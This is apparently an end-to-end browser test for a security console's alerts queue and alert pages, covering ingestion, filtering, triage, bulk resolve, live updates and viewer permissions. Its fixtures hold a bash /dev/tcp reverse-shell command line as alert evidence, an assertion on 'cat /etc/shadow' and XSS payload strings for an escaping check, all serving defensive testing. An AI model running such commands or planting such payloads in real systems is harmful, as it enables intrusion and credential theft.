/**
 * The alerts queue and the alert page, in a real browser (Debian's chromium) against a real
 * `cordon server` and the real agent on this machine. Alerts come in as other tools send them: an
 * ingest token, Cordon's body at POST /api/alerts and Falco's own JSON at /api/alerts/falco (the
 * test fixture, its host name set to this machine's device).
 * - the queue: default view (New, In progress), filters by severity and status in the address;
 * - bulk resolve: the alerts leave the default view, and the device's risk drops live on its page
 *   and on the dashboard;
 * - live: an alert ingested while the queue is open appears without reload;
 * - the alert page: details, evidence, triage and comments; its device one click away with the
 *   response-action bar, and the device's Alerts tab; a host that has not enrolled is said so;
 * - HTML and script in titles, descriptions and evidence render as text;
 * - a viewer reads and changes nothing.
 *
 * Nothing here changes this machine: the agent only connects. Screenshots land in
 * e2e/.artifacts/screenshots/console-alerts-*.png.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Alert } from '@cordon/api-client';
import type { CordonClient, Machine } from '@cordon/cli/client';
import { screenshot, startConsoleBed, type ConsoleBed, type Credentials, type TestPage } from './browser.js';
import { cordon, ownWalkRoots, ROOT, until } from './helpers.js';

const WAIT = 30_000;
const FIXTURES = join(ROOT, 'packages', 'server', 'src', 'testing', 'fixtures');
const XSS_TITLE = '<img src=x onerror="globalThis.__cordonXss = 1">';
const XSS_DESCRIPTION = '<script>globalThis.__cordonXss = 2</script><b>bold?</b>';
const XSS_COMMAND = '<img src=y onerror="globalThis.__cordonXss = 3">';

describe('web console: alerts', () => {
  const dirs: string[] = [];
  let bed: ConsoleBed;
  let api: CordonClient;
  let base: string;
  let ingestToken: string;
  const viewer = { username: 'val.viewer', password: '' };
  let me: Machine;
  /** The alerts the first test sends, by what they are. */
  const sent: Record<'high' | 'falco' | 'low' | 'unenrolled' | 'resolved', Alert> = {} as never;

  /** A page signed in as `user`, the first admin unless told. */
  const open = (user?: Credentials): Promise<TestPage> => bed.signedIn({}, user);

  /** Sends an alert as another tool would: the ingest token, Cordon's body or Falco's JSON. */
  async function ingest(path: '/api/alerts' | '/api/alerts/falco', body: unknown): Promise<Alert> {
    const r = await fetch(`${base}${path}`, { method: 'POST', headers: { authorization: `Bearer ${ingestToken}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
    const json = (await r.json()) as Alert;
    if (r.status !== 201) throw new Error(`${path} answered ${r.status}: ${JSON.stringify(json)}`);
    return json;
  }
  const cordonAlert = (title: string, severity: string, over: Record<string, unknown> = {}) =>
    ingest('/api/alerts', { computerDnsName: me.computerDnsName, title, severity, category: 'Execution', detectionSource: 'Custom', ...over });

  const queue = (page: Page) => page.getByTestId('alerts-table');
  /** The alert titles in the queue, top to bottom. */
  const shownTitles = (page: Page) => queue(page).getByTestId('alert-title').allTextContents();
  const expectTitles = (page: Page, titles: string[]) => expect.poll(() => shownTitles(page), { timeout: WAIT }).toEqual(titles);
  const markDocument = (page: Page) => page.evaluate('globalThis.__cordonNoReload = true');
  const stillSameDocument = (page: Page) => page.evaluate('globalThis.__cordonNoReload === true');

  beforeAll(async () => {
    bed = await startConsoleBed('console-alerts', dirs, { pageTimeoutMs: WAIT });
    ({ api, base } = bed);
    const { serverDir } = bed;
    const { machineId } = await bed.startAgent(ownWalkRoots(dirs));

    // What an admin does for Falco and for a colleague who only reads: the CLI on the server's data directory.
    const token = await cordon(['token', 'create', '--role', 'ingest', '--name', 'falco', '--data-dir', serverDir]);
    expect(token.code, token.stderr).toBe(0);
    ingestToken = token.stdout.trim();
    const user = await cordon(['user', 'create', '--username', viewer.username, '--role', 'viewer', '--data-dir', serverDir]);
    expect(user.code, user.stderr).toBe(0);
    viewer.password = /^password: (\S+)$/m.exec(user.stdout)![1]!;

    me = await bed.online(machineId);
  }, 240_000);

  afterAll(() => bed?.close(), 90_000);

  it("shows ingested alerts (Cordon's body and Falco's JSON) newest first, open ones by default, and filters them by severity and status in the address", async () => {
    sent.resolved = await cordonAlert('Crypto miner started', 'High');
    await api.updateAlert(sent.resolved.id, { status: 'Resolved', comment: 'reimaged' });
    sent.unenrolled = await ingest('/api/alerts', { computerDnsName: 'not-enrolled-yet-01', title: 'Port scan from a new host', severity: 'Informational', category: 'Discovery' });
    sent.low = await cordonAlert('Unusual cron entry', 'Low', { category: 'Persistence' });
    const falco = JSON.parse(readFileSync(join(FIXTURES, 'falco-read-sensitive-file.json'), 'utf8')) as Record<string, unknown>;
    sent.falco = await ingest('/api/alerts/falco', { ...falco, hostname: me.computerDnsName.toUpperCase() });
    sent.high = await cordonAlert('Reverse shell', 'High', {
      mitreTechniques: ['T1059.004'],
      evidence: [
        { entityType: 'Process', processId: 4242, processCommandLine: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', accountName: 'www-data' },
        { entityType: 'Ip', ipAddress: '203.0.113.9', port: 4444 },
      ],
    });
    expect(sent.falco).toMatchObject({ machineId: me.id, severity: 'Medium', detectionSource: 'Falco' });
    expect(sent.unenrolled.machineId).toBeNull();
    expect((await api.machine(me.id)).riskScore).toBe('High');

    const t = await open();
    const { page } = t;
    await page.goto('/');
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Alerts' }).click();
    await page.waitForURL((u) => u.pathname === '/alerts');
    const open4 = [sent.high, sent.falco, sent.low, sent.unenrolled].map((a) => a.title);
    await expectTitles(page, open4);
    // The device column: a link for an enrolled host, the host's name for one not enrolled yet.
    const unenrolledRow = queue(page).locator(`tr[data-alert="${sent.unenrolled.id}"]`);
    await expect.poll(() => unenrolledRow.textContent()).toContain('not-enrolled-yet-01 (not enrolled)');
    expect(await queue(page).locator(`tr[data-alert="${sent.falco.id}"]`).getByRole('link', { name: me.computerDnsName }).getAttribute('href')).toBe(`/devices/${me.id}`);

    const filters = page.getByTestId('alert-filters');
    await filters.getByRole('combobox', { name: 'Severity', exact: true }).click({ force: true });
    await page.getByRole('option', { name: 'High', exact: true }).click();
    await page.waitForURL((u) => u.searchParams.get('severity') === 'High');
    await page.keyboard.press('Escape');
    await expectTitles(page, [sent.high.title]);
    // Resolved added to the statuses: the resolved High alert shows too.
    await filters.getByRole('combobox', { name: 'Status', exact: true }).click({ force: true });
    await page.getByRole('option', { name: 'Resolved', exact: true }).click();
    await page.waitForURL((u) => u.searchParams.get('status') === 'New,InProgress,Resolved');
    await page.keyboard.press('Escape');
    await expectTitles(page, [sent.high.title, sent.resolved.title]);
    await screenshot(page, 'console-alerts-filtered');

    // The address alone reproduces a view.
    await page.goto('/alerts?status=Resolved');
    await expectTitles(page, [sent.resolved.title]);
    await page.goto('/alerts?severity=Medium,Low&sort=severity&dir=asc');
    await expectTitles(page, [sent.low.title, sent.falco.title]);
    await page.goto('/alerts?source=falco');
    await expectTitles(page, [sent.falco.title]);
    await page.goto('/alerts?status=any&device=not-enrolled');
    await expectTitles(page, [sent.unenrolled.title]);
    expect(t.problems()).toEqual([]);
  }, 120_000);

  it('opens an alert from the queue: details, evidence and comments, and its device one click away with the response-action bar', async () => {
    const t = await open();
    const { page } = t;
    await page.goto('/alerts');
    await queue(page).getByRole('link', { name: sent.falco.title, exact: true }).click();
    await page.waitForURL((u) => u.pathname === `/alerts/${sent.falco.id}`);
    await expect.poll(() => page.getByTestId('alert-page-title').textContent()).toBe('Read sensitive file untrusted');
    const header = page.getByTestId('alert-header');
    expect(await header.getByTestId('alert-severity').getAttribute('data-severity')).toBe('Medium');
    expect(await header.getByTestId('alert-status').textContent()).toBe('New');
    expect(await page.getByTestId('alert-description').textContent()).toContain('Sensitive file opened for reading by non-trusted program');
    expect(await header.textContent()).toContain('T1555');
    const evidence = page.getByTestId('alert-evidence');
    await expect.poll(() => evidence.textContent()).toContain('/etc/shadow');
    expect(await evidence.textContent()).toContain('cat /etc/shadow');

    // Triage: take it, say why, and the API has it.
    const manage = page.getByTestId('manage-alert');
    await manage.getByLabel('Status', { exact: true }).click();
    await page.getByRole('option', { name: 'In progress', exact: true }).click();
    await manage.getByRole('button', { name: 'Assign to me' }).click();
    await manage.getByLabel('Classification', { exact: true }).click();
    await page.getByRole('option', { name: 'True positive', exact: true }).click();
    await manage.getByRole('button', { name: 'Save' }).click();
    await until('the alert to be taken', async () => {
      const a = await api.alert(sent.falco.id);
      return a.status === 'InProgress' && a.assignedTo === 'admin' && a.classification === 'TruePositive';
    }, WAIT);
    await expect.poll(() => header.getByTestId('alert-status').textContent()).toBe('In progress');
    const comments = page.getByTestId('alert-comments');
    await comments.getByRole('textbox', { name: 'Add a comment' }).fill('checked with the web team: not them');
    await comments.getByRole('button', { name: 'Add comment' }).click();
    await expect.poll(() => comments.getByTestId('alert-comment').allTextContents()).toEqual([expect.stringContaining('checked with the web team: not them')]);
    expect((await api.alert(sent.falco.id)).comments.map((c) => c.comment)).toEqual(['checked with the web team: not them']);

    // The device, its state and its response actions, without leaving the alert.
    const device = page.getByTestId('alert-device');
    await device.getByTestId('action-bar').locator('[data-action="Isolate"]').waitFor();
    expect(await device.getByTestId('risk-badge').getAttribute('data-risk')).toBe('High');
    await screenshot(page, 'console-alerts-alert-page');
    await device.getByTestId('alert-device-link').click();
    await page.waitForURL((u) => u.pathname === `/devices/${me.id}`);
    await page.getByTestId('action-bar').locator('[data-action="Isolate"]').waitFor();
    await page.getByRole('tab', { name: 'Alerts' }).click();
    await page.waitForURL((u) => u.searchParams.get('tab') === 'alerts');
    // The device's own alerts, resolved included, newest first; the unenrolled host's is not among them.
    const deviceAlerts = page.getByTestId('device-alerts-table').getByTestId('alert-title');
    await expect.poll(() => deviceAlerts.allTextContents(), { timeout: WAIT }).toEqual([sent.high, sent.falco, sent.low, sent.resolved].map((a) => a.title));

    // An alert whose host has not enrolled has no device to respond on, and says so.
    await page.goto(`/alerts/${sent.unenrolled.id}`);
    await expect.poll(() => page.getByTestId('alert-not-enrolled').textContent()).toContain('not-enrolled-yet-01');
    expect(await page.getByTestId('alert-device').count()).toBe(0);
    expect(t.problems()).toEqual([]);
  }, 120_000);

  it("resolves two selected alerts at once: they leave the default view, and the device's risk drops live on its page and the dashboard", async () => {
    const deviceTab = await open();
    await deviceTab.page.goto(`/devices/${me.id}`);
    const risk = deviceTab.page.getByTestId('device-header').getByTestId('risk-badge');
    await expect.poll(() => risk.getAttribute('data-risk')).toBe('High');
    const dashboard = await open();
    await dashboard.page.goto('/');
    const atRisk = dashboard.page.getByTestId('card-at-risk');
    await atRisk.getByRole('link', { name: me.computerDnsName }).waitFor();
    // The dashboard's Alerts card: new alerts, the most severe first.
    const alertsCard = dashboard.page.getByTestId('card-alerts').locator('[data-alert] a');
    await expect.poll(() => alertsCard.allTextContents()).toEqual([sent.high.title, sent.low.title, sent.unenrolled.title]);
    await Promise.all([markDocument(deviceTab.page), markDocument(dashboard.page)]);

    const t = await open();
    const { page } = t;
    await page.goto('/alerts');
    await expectTitles(page, [sent.high, sent.falco, sent.low, sent.unenrolled].map((a) => a.title));
    for (const a of [sent.high, sent.falco]) await queue(page).locator(`tr[data-alert="${a.id}"]`).getByRole('checkbox').check();
    await page.getByRole('button', { name: 'Resolve (2)' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('textbox', { name: 'Comment' }).fill('contained: reimaged web host');
    await dialog.getByRole('button', { name: 'Resolve', exact: true }).click();
    await dialog.waitFor({ state: 'hidden' });
    await expectTitles(page, [sent.low.title, sent.unenrolled.title]);
    for (const a of [sent.high, sent.falco]) {
      const stored = await api.alert(a.id);
      expect(stored.status).toBe('Resolved');
      expect(stored.comments.map((c) => c.comment)).toContain('contained: reimaged web host');
    }

    // Low is the highest open alert left: the device page and the dashboard follow without reload.
    await expect.poll(() => risk.getAttribute('data-risk'), { timeout: WAIT }).toBe('Low');
    await atRisk.getByText('No device is at medium or high risk.').waitFor();
    await expect.poll(() => alertsCard.allTextContents()).toEqual([sent.low.title, sent.unenrolled.title]);
    expect(await stillSameDocument(deviceTab.page)).toBe(true);
    expect(await stillSameDocument(dashboard.page)).toBe(true);
    await screenshot(dashboard.page, 'console-alerts-dashboard');
    for (const x of [t, deviceTab, dashboard]) expect(x.problems()).toEqual([]);
  }, 120_000);

  it('shows an alert ingested while the queue is open, without reload', async () => {
    const t = await open();
    const { page } = t;
    await page.goto('/alerts');
    await expectTitles(page, [sent.low.title, sent.unenrolled.title]);
    await markDocument(page);
    const fresh = await cordonAlert('Web shell written to /var/www', 'High', { category: 'Persistence' });
    await expectTitles(page, [fresh.title, sent.low.title, sent.unenrolled.title]);
    expect(await stillSameDocument(page)).toBe(true);
    expect(t.problems()).toEqual([]);
  }, 60_000);

  it('renders HTML and script in titles, descriptions and evidence as text', async () => {
    const hostile = await cordonAlert(XSS_TITLE, 'Medium', { description: XSS_DESCRIPTION, evidence: [{ entityType: 'Process', processId: 7, processCommandLine: XSS_COMMAND }] });
    const t = await open();
    const { page } = t;
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    // Rendered as HTML, these would make <img> elements (their handlers also blocked by the CSP, which would be a problem here).
    const injected = () => page.evaluate(`[document.querySelectorAll('img[src="x"], img[src="y"], [data-testid="alert-description"] *').length, globalThis.__cordonXss ?? null]`);

    for (const url of ['/', '/alerts', `/alerts/${hostile.id}`, `/devices/${me.id}?tab=alerts`]) {
      await page.goto(url);
      await page.getByText(XSS_TITLE, { exact: true }).first().waitFor();
      expect(await injected(), url).toEqual([0, null]);
    }
    await page.goto(`/alerts/${hostile.id}`);
    expect(await page.getByTestId('alert-description').textContent()).toBe(XSS_DESCRIPTION);
    await expect.poll(() => page.getByTestId('alert-evidence').textContent()).toContain(XSS_COMMAND);
    expect(await injected()).toEqual([0, null]);
    expect(dialogs).toEqual([]);
    expect(t.problems()).toEqual([]);
  }, 60_000);

  it('shows a viewer the alerts and no way to change them', async () => {
    const t = await open(viewer);
    const { page } = t;
    await page.goto('/alerts');
    await expect.poll(() => shownTitles(page), { timeout: WAIT }).toContain(sent.low.title);
    // The bulk buttons are there, unavailable, saying why.
    for (const name of ['Assign to…', 'Resolve']) expect(await page.getByRole('button', { name, exact: true }).getAttribute('aria-disabled')).toBe('true');
    await page.goto(`/alerts/${sent.low.id}`);
    await expect.poll(() => page.getByTestId('alert-page-title').textContent()).toBe(sent.low.title);
    await page.getByTestId('alert-read-only').waitFor();
    expect(await page.getByTestId('manage-alert').count()).toBe(0);
    expect(await page.getByRole('button', { name: 'Add comment' }).count()).toBe(0);
    expect(await page.getByRole('textbox', { name: 'Add a comment' }).count()).toBe(0);
    await screenshot(page, 'console-alerts-viewer');
    expect(t.problems()).toEqual([]);
  }, 60_000);
});
